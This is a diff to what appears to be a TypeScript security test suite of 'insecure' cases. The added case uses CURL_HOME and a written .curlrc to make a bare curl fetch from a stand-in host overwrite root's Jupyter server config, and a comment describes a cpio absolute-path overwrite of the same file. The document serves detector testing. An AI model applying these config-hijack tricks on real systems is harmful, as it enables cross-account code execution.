@@ -305,6 +305,18 @@ const insecure: StackCase[] = [
             ],
         ),
     },
+    // curl(1) -K: with no -K, curl reads "$CURL_HOME/.curlrc" first (then $XDG_CONFIG_HOME/curlrc, then ~/.curlrc).
+    // Round 53 (a neighbour of the -K fix): any curlrc the script writes counts.
+    {
+        name: `cross-account: ${WRITTEN} \`export CURL_HOME=/etc/curl\`, a written /etc/curl/.curlrc whose \`output\` is the Jupyter config, then a bare \`curl URL\``,
+        stack: "cross-account",
+        refused: /rt53-curl-home/,
+        edit: loopbackJupyter(
+            "rt53-curl-home",
+            ["export CURL_HOME=/etc/curl", "curl -fsSL https://seed.example.com/jupyter_server_config.py"],
+            [["/etc/curl/.curlrc", 'output = "/root/.jupyter/jupyter_server_config.py"']],
+        ),
+    },
     // GNU cpio manual, "Copy-in mode": --absolute-filenames "Do not strip file system prefix components from the file
     // names. This is the default." -D only changes directory: `/root/.jupyter/...` members land there.
     // Was a MISS (fixed in round 53): GNU cpio -i keeps absolute member names by default (GNU cpio manual, "Copy-in mode": --absolute-filenames "This is the default"; only --no-absolute-filenames makes them relative), and -D only changes directory, so an overlay member /root/.jupyter/jupyter_server_config.py replaces the loopback config (same gain as above); the pack marks only -D's tree. Doc: gnu.org/software/cpio/manual/html_section/Copy_002din-mode.html.
